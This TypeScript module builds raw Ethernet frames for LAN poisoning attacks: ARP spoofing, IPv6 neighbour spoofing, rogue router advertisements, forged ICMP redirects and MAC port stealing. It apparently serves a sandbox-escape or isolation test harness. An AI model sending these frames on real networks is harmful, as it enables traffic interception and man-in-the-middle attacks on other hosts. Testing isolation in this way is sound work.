import * as wire from '../host/frames.ts';
import { internet, linkLocal, type Station } from './escape-target.ts';

/** A lie told to the victim: that the one it believes in is where the liar is. */
export interface Poison {
  readonly name: string;
  readonly frames: (liar: Station, victim: Station, believed: Station) => readonly Buffer[];
}

const nobody = '00:00:00:00:00:00';
const everybody6 = { mac: '33:33:00:00:00:01', ip6: 'ff02::1' } as const;

function toVictim(operation: 'request' | 'reply'): Poison['frames'] {
  return (liar, victim, believed) => {
    const lie = wire.arp(operation, { mac: liar.mac, ip: believed.ip }, victim);
    return [wire.ethernet({ from: liar.mac, to: victim.mac }, 'arp', lie)];
  };
}

/** Said by the one it is about, to all, of its own accord. */
function gratuitous(operation: 'request' | 'reply'): Poison['frames'] {
  return (liar, _, { ip }) => {
    const target = { mac: operation === 'request' ? nobody : wire.broadcast, ip };
    return [
      wire.ethernet(
        { from: liar.mac, to: wire.broadcast },
        'arp',
        wire.arp(operation, { mac: liar.mac, ip }, target),
      ),
    ];
  };
}

function byNeighbour(kind: 'solicitation' | 'advertisement', to: 'victim' | 'all'): Poison['frames'] {
  return (liar, victim, believed) => {
    const { mac, ip6 } = to === 'all' ? everybody6 : victim;
    const ends = { from: believed.ip6, to: ip6 };
    const about = kind === 'advertisement' ? believed.ip6 : victim.ip6;
    const message = wire.ipv6(ends, wire.protocols.icmpv6, wire.neighbour(ends, kind, about, liar.mac), 255);
    return [wire.ethernet({ from: liar.mac, to: mac }, 'ipv6', message)];
  };
}

/** "I am the way to everywhere." */
const advertisement: Poison['frames'] = (liar) => {
  const ends = { from: linkLocal(liar.mac), to: everybody6.ip6 };
  const source = Buffer.concat([Buffer.from([1, 1]), Buffer.from(liar.mac.replaceAll(':', ''), 'hex')]);
  // Of high preference, for half an hour.
  const message = wire.icmpv6(ends, 134, 0, 0x4008_0708, Buffer.concat([Buffer.alloc(8), source]));
  return [
    wire.ethernet(
      { from: liar.mac, to: everybody6.mac },
      'ipv6',
      wire.ipv6(ends, wire.protocols.icmpv6, message, 255),
    ),
  ];
};

/** "To the internet by me", in the name of the gateway; the kernel believes it of an answer to a ping without any socket's say. */
const redirect: Poison['frames'] = (liar, victim, believed) => {
  const quoted = wire.ipv4(
    { from: victim.ip, to: internet.ip },
    wire.protocols.icmp,
    wire.icmp(0, 0, 1, Buffer.alloc(8)),
  );
  const message = wire.icmp(5, 1, wire.address(liar.ip).readUInt32BE(), quoted);
  const packet = wire.ipv4({ from: believed.ip, to: victim.ip }, wire.protocols.icmp, message);
  return [wire.ethernet({ from: liar.mac, to: victim.mac }, 'ipv4', packet)];
};

/** Makes the bridge believe that the victim is at the liar's port. */
const stolenPort: Poison['frames'] = (liar, victim) => {
  const nobodyAsks = wire.arp('request', { mac: victim.mac, ip: liar.ip }, { mac: nobody, ip: liar.ip });
  return [wire.ethernet({ from: victim.mac, to: wire.broadcast }, 'arp', nobodyAsks)];
};

export const poisons: readonly Poison[] = [
  { name: 'an ARP answer nobody asked for', frames: toVictim('reply') },
  { name: "an ARP question in another's name", frames: toVictim('request') },
  { name: 'a gratuitous ARP answer', frames: gratuitous('reply') },
  { name: 'a gratuitous ARP question', frames: gratuitous('request') },
  { name: 'a neighbour advertisement', frames: byNeighbour('advertisement', 'victim') },
  { name: 'a neighbour advertisement to all', frames: byNeighbour('advertisement', 'all') },
  { name: "a neighbour solicitation in another's name", frames: byNeighbour('solicitation', 'victim') },
  { name: 'a router advertisement', frames: advertisement },
  { name: 'a redirect', frames: redirect },
  { name: "the victim's hardware address", frames: stolenPort },
];
